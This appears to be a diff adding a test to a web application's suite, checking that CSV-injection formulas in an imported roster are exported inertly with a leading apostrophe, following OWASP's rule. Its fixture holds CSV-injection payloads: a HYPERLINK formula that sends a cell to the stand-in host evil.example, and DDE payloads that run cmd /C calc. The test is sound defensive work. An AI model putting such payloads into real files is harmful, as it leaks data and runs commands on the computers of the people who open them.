@@ -101,3 +101,44 @@ async def test_advisors_have_no_roster_page(browsers, people) -> None:  # type: 
     vera = await browsers("vera@example.org")
     assert (await vera.get("/console/roster")).status_code == 403
     assert (await vera.get("/console/roster.csv")).status_code == 403
+
+
+FORMULAS_CSV = (
+    "key,name,node,email,expertise,languages,capacity,is_coordinator,active\n"
+    'f-1,"=HYPERLINK(""http://evil.example/?""&A1,""klicka"")",tranas,,,sv,4,no,yes\n'
+    "f-2,+cmd|' /C calc'!A0,tranas,,,sv,4,no,yes\n"
+    "f-3,@SUM(1+1)*cmd|' /C calc'!A0,tranas,,,sv,4,no,yes\n"
+    "f-4,-2+3+cmd|' /C calc'!A0,tranas,,,sv,4,no,yes\n"
+)
+
+
+async def test_formulas_in_an_imported_roster_come_back_inert_and_import_again_unchanged(
+    browsers, people, db: Database
+) -> None:  # type: ignore[no-untyped-def]
+    """OWASP's CSV-injection rule: a cell starting with = + - @ (or a tab or carriage
+    return) is written with a leading apostrophe, so a spreadsheet shows it as text."""
+    import csv
+    import io
+
+    cora = await browsers("cora@example.org")
+    token = await cora.csrf("/console/roster")
+    imported = await cora.client.post(
+        "/console/roster/import",
+        data={"csrf": token},
+        files={"file": ("roster.csv", FORMULAS_CSV.encode(), "text/csv")},
+    )
+    assert imported.status_code == 200, imported.text
+    names = {a.key: a.name for a in await export_roster(db)}
+    assert names["f-1"].startswith("=HYPERLINK(")  # stored as typed
+    exported = (await cora.get("/console/roster.csv")).text
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK(" in exported and "'+cmd|" in exported and "'@SUM(" in exported
+    # The export imports again unchanged: the apostrophe is the file's, not the name's.
+    again = await cora.client.post(
+        "/console/roster/import",
+        data={"csrf": token},
+        files={"file": ("roster.csv", exported.encode(), "text/csv")},
+    )
+    assert again.status_code == 200, again.text
+    assert {a.key: a.name for a in await export_roster(db)} == names
